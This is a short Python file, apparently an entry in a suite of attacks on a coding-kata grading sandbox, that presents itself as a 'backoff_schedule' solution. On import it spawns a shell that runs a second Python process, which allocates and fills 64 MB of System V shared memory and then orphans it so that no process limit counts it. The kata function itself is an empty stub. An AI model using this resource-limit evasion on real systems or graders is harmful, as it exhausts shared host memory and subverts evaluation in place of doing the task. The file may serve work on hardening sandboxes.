"""Takes memory that is nobody's, the old way.

Kata: backoff_schedule
Attack: Has another Python fill shared memory of System V and let go of it: it stays, and no process has it.
Status: error
Points: 0
Flags: posix_spawn
Needs: memory
"""

import os
import sys

CODE = """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
if (number := libc.shmget(0, 64 << 20, 0o1600)) >= 0:
    ctypes.memset(libc.shmat(number, None, 0), 1, 64 << 20)
    print("HARM: 64 MB that no limit has counted")
"""
NOTE = os.path.join(os.environ["HOME"], "note")
SHELL = f"exec '{sys.executable}' -c '{CODE}' > '{NOTE}' 2>&1"
os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", SHELL], {"PATH": "/usr/bin:/bin"}), 0)
raise RuntimeError(open(NOTE).read() or "nothing was reached")


def delay(*args, **options):
    raise NotImplementedError


Backoff = delay
